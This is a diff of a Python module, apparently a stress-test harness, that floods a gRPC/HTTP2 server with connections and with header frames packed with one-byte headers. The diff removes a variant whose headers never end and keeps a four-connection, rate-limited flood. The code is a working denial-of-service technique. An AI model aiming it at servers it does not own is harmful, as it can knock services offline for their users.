@@ -7,10 +7,9 @@ import resource
 import struct
 import sys
 from collections import Counter
-from collections.abc import AsyncIterator, Callable, Coroutine
+from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager, suppress
 from dataclasses import dataclass, field
-from functools import partial
 from time import perf_counter
 from typing import Any
 
@@ -125,71 +124,38 @@ async def flood_of_connections(
 
 
 async def flood_of_headers(
-    address: str,
-    method: str,
-    size: int,
-    seconds: float,
-    rate: float,
-    *,
-    ends: bool = True,
-    connections: int = 4,
+    address: str, method: str, size: int, seconds: float, rate: float
 ) -> int:
     """Calls with `size` headers of one byte each, as many as fit into a connection.
 
     The peer never confirms the server's settings: until then gRPC enforces no limit on headers.
-    Without `ends` the headers of a call never end: each connection has one.
     """
     host, port = address.rsplit(":", 1)
     began, sent = perf_counter(), 0
-    call = headers(method, address) + EMPTY_HEADER * size
-
-    def is_over() -> bool:
-        return perf_counter() - began > seconds
-
-    async def write(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes) -> int:
-        nonlocal sent
-        for at in range(0, len(data), MOST_WRITTEN):
-            if (early := sent / rate - (perf_counter() - began)) > 0:
-                await asyncio.sleep(early)
-            if is_over() or reader.at_eof():
-                return 0
-            writer.write(data[at : at + MOST_WRITTEN])
-            sent += len(data[at : at + MOST_WRITTEN])
-            async with asyncio.timeout(1):
-                await writer.drain()
-        return len(data)
+    call = headers(method, address) + EMPTY_HEADER * min(size, MOST_FRAME - 200)
 
     async def one() -> None:
-        while not is_over():
+        nonlocal sent
+        while perf_counter() - began < seconds:
             with suppress(OSError, TimeoutError):
                 async with asyncio.timeout(1):  # it may be held off
                     reader, writer = await asyncio.open_connection(host, int(port))
                 writer.write(PREFACE)
                 for number in range(1, 20_000, 2):
-                    if not await write(reader, writer, in_frames(number, call, ends=ends)):
+                    if (early := sent / rate - (perf_counter() - began)) > 0:
+                        await asyncio.sleep(early)
+                    if perf_counter() - began > seconds or reader.at_eof():
                         break
-                    if not ends:
-                        async with asyncio.timeout(seconds):
-                            while await reader.read(1 << 16):
-                                pass
-                        break
+                    writer.write(frame(1, 5, number, call))
+                    sent += len(call)
+                    async with asyncio.timeout(1):
+                        await writer.drain()
                 writer.transport.abort()
 
-    await asyncio.gather(*(one() for _ in range(connections)))
+    await asyncio.gather(*(one() for _ in range(4)))
     return sent
 
 
-def in_frames(stream: int, block: bytes, *, ends: bool = True) -> bytes:
-    """One block of headers, in as many frames as it needs."""
-    starts = range(0, len(block), MOST_FRAME)
-    framed = bytearray()
-    for at in starts:
-        flags = (1 if at == 0 else 0) | (4 if ends and at == starts[-1] else 0)
-        framed += frame(9 if at else 1, flags, stream, block[at : at + MOST_FRAME])
-    return bytes(framed)
-
-
-MOST_WRITTEN = 1 << 16
 EMPTY_HEADER = b"\x8f"
 """accept-charset, without a value: one byte on the wire."""
 MOST_FRAME = 16_384
@@ -247,7 +213,7 @@ async def flood_from_another_process(
     rate: float = 0.0,
     way: str = "calls",
 ) -> Flood:
-    """The same without using the time of this process. `way`: calls, or one of `RAW`."""
+    """The same without using the time of this process. `way`: calls, connections or headers."""
     words = (way, address, method, str(size), str(seconds), str(at_least), str(rate))
     process = await asyncio.create_subprocess_exec(
         sys.executable, "-m", __name__, *words, cwd=ROOT, stdout=asyncio.subprocess.PIPE
@@ -295,12 +261,7 @@ class MemoryWatch:
         return (self._peak - self._before) / 2**20
 
 
-RAW: dict[str, Callable[[str, str, int, float, float], Coroutine[Any, Any, int]]] = {
-    "connections": flood_of_connections,
-    "headers": flood_of_headers,
-    "headers over 16 connections": partial(flood_of_headers, connections=16),
-    "headers that never end": partial(flood_of_headers, ends=False, connections=64),
-}
+RAW = {"connections": flood_of_connections, "headers": flood_of_headers}
 
 
 async def _attack(
